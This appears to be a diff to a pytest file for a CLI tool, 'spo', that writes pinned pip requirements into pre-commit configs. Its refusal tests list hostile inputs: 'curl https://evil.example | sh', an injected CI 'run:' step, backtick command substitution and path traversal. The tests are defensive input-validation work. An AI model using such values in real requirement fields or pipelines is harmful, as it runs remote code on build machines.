@@ -113,8 +113,12 @@ def test_no_install_line_in_the_repository_installs_another_spo() -> None:
     lines = 0
     for path in files:
         text = path.read_text(encoding="utf-8")
+        where = path.relative_to(REPO).as_posix()
+        if where == "CHANGELOG.md":  # it keeps every release's own install lines
+            found += [f"{where}: names the bare 'spo'" for _ in BARE.finditer(text)]
+            continue
         lines += len(INSTALL.findall(text))
-        found += problems_in(text, path.relative_to(REPO).as_posix())
+        found += problems_in(text, where)
     assert found == []
     assert lines >= 8  # the README's, CI's, the action's, the templates'...
 
@@ -156,6 +160,26 @@ def test_every_file_spo_init_writes_installs_exactly_this_release(tmp_path: Path
 FORK = "spo-registry @ git+https://github.com/keskin-bld/spo@v0.1.0-keskin#egg=spo-registry"
 
 
+@pytest.mark.parametrize(
+    "given",
+    [
+        PINNED,
+        f"SPO_Registry=={spo.__version__}",  # pip's own name folding
+        f"spo-registry[web]=={spo.__version__}",
+        f"spo-registry==={spo.__version__}",
+        "spo-registry @ git+ssh://git@github.com/keskin/spo.git@v1.0#egg=spo-registry",
+        "spo-registry @ https://files.example/spo_registry-0.1.0-py3-none-any.whl",
+        "spo-registry @ file:///srv/spo",
+    ],
+)
+def test_a_requirement_for_one_release_is_written_as_given(tmp_path: Path, given: str) -> None:
+    root = tmp_path / "r"
+    run = run_spo("init", str(root), "--province", "Artvin", "--spo-requirement", given)
+    assert (run.exit_code, run.stderr) == (0, "")
+    hooks = yaml.safe_load((root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
+    assert hooks["repos"][0]["hooks"][0]["additional_dependencies"] == [given]
+
+
 def test_an_office_that_installs_from_its_own_fork_gets_that_everywhere(tmp_path: Path) -> None:
     root = tmp_path / "keskin"
     run = run_spo("init", str(root), "--province", "Kırıkkale", "--spo-requirement", FORK)
@@ -178,14 +202,24 @@ def test_an_office_that_installs_from_its_own_fork_gets_that_everywhere(tmp_path
         ("spo @ git+https://github.com/x/spo@v1", "other"),
         ("requests", "other"),
         ("spo-registry; python_version < '3.12'", "bad"),  # a quote: refused before parsing
-        ("spo-registry ; sys_platform == 'linux'", "bad"),
+        ("spo-registry==0.1.0;os_name==sys_platform", "bad"),  # pip reads a marker after ";"
+        ("spo-registry@https://x.example/spo.whl;os_name==sys_platform", "bad"),
+        ("spo-registry @ https://x.example/a;id", "bad"),
         ("spo-registry @ git+https://github.com/x/spo@${{ github.token }}", "bad"),
         ("spo-registry==0.1.0 && curl https://evil.example | sh", "bad"),
         ("spo-registry\n      - run: curl https://evil.example", "bad"),
         ("spo-registry @ git+https://github.com/x/spo@`id`", "bad"),
+        ("spo-registry @ x", "bad"),  # no scheme: pip refuses it
+        ("spo-registry @ ../evil", "bad"),
+        ("spo-registry @ http://x.example/spo.whl", "bad"),  # fetched in the clear
+        ("spo-registry==" + "1" * 600, "bad"),
         ("spo-registry==", "bad"),
         ("", "bad"),
         ("   ", "bad"),
+        ("spo-registry", "unpinned"),
+        ("spo-registry>=0.1", "unpinned"),
+        ("spo-registry==0.1.*,!=0.1.1", "unpinned"),
+        ("spo-registry==0.1.*", "unpinned"),
         ("\x1b[31mspo-registry", "bad"),
     ],
 )
@@ -202,7 +236,10 @@ def test_a_requirement_that_would_not_install_spo_safely_is_refused_and_nothing_
         "other": f"spo: --spo-requirement: '{shown}' does not install spo; spo's distribution "
         "is 'spo-registry' (the 'spo' on PyPI is another project)\n",
         "bad": f"spo: --spo-requirement: '{shown}' is not a pip requirement; for example "
-        "'spo-registry==0.1.0' or 'spo-registry @ git+https://github.com/OWNER/spo@v0.1.0'\n",
+        f"'{PINNED}' or 'spo-registry @ git+https://github.com/OWNER/spo@v{spo.__version__}'\n",
+        "unpinned": f"spo: --spo-requirement: '{shown}' does not name one release; give a "
+        f"version such as '{PINNED}', or the address of a tag, so that the registry is always "
+        "checked by the same spo\n",
     }[why]
     assert (run.exit_code, run.stdout) == (2, "")
     assert run.stderr == expected
